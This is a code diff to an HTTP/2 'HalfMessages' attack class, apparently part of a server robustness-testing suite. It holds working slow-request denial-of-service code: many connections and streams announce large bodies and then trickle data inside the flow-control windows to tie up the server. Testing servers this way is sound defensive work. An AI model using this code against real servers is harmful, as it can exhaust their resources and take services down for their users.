@@ -17,7 +17,7 @@ class HalfMessages(Attack):
 
     @staticmethod
     def attack(address: str, seconds: float) -> list[str]:
-        senders = [_Sender(int(address.rpartition(":")[2])) for _ in range(_CONNECTIONS)]
+        senders = [Sender(int(address.rpartition(":")[2])) for _ in range(_CONNECTIONS)]
         begin = time.monotonic()
         sent = 0
         while (passed := time.monotonic() - begin) < seconds:
@@ -31,7 +31,7 @@ class HalfMessages(Attack):
         return []
 
 
-class _Sender:
+class Sender:
     """A connection that keeps to HTTP/2's windows: else the server hangs up."""
 
     def __init__(self, port: int):
@@ -45,6 +45,7 @@ class _Sender:
         self._socket.sendall(wire.greeting())
         time.sleep(0.1)
         self._read()
+        self._next = 2 * _STREAMS + 1
         for stream in range(1, 2 * _STREAMS, 2):
             prefix = b"\0" + (16 << 20).to_bytes(4, "big")
             self._socket.sendall(wire.frame(wire.HEADERS, wire.END_HEADERS, stream, headers) + wire.frame(wire.DATA, 0, stream, prefix))
@@ -69,6 +70,30 @@ class _Sender:
         except OSError:
             self._left.clear()  # it has hung up, as it may
         return sent
+
+    def open(self, headers: bytes) -> int:
+        """A call of its own, for `send`."""
+        stream = self._next
+        self._next += 2
+        self._windows[stream] = self._stream_window
+        try:
+            self._socket.sendall(wire.frame(wire.HEADERS, wire.END_HEADERS, stream, headers))
+        except OSError:
+            self._left.clear()
+        return stream
+
+    def send(self, stream: int, data: bytes) -> int:
+        """All, or nothing where the windows have no room. How many bytes."""
+        if not self._left or len(data) > min(self._window, self._windows[stream], _FRAME):
+            return 0
+        try:
+            self._socket.sendall(wire.frame(wire.DATA, 0, stream, data))
+        except OSError:
+            self._left.clear()
+            return 0
+        self._window -= len(data)
+        self._windows[stream] -= len(data)
+        return len(data)
 
     def close(self) -> None:
         self._socket.close()
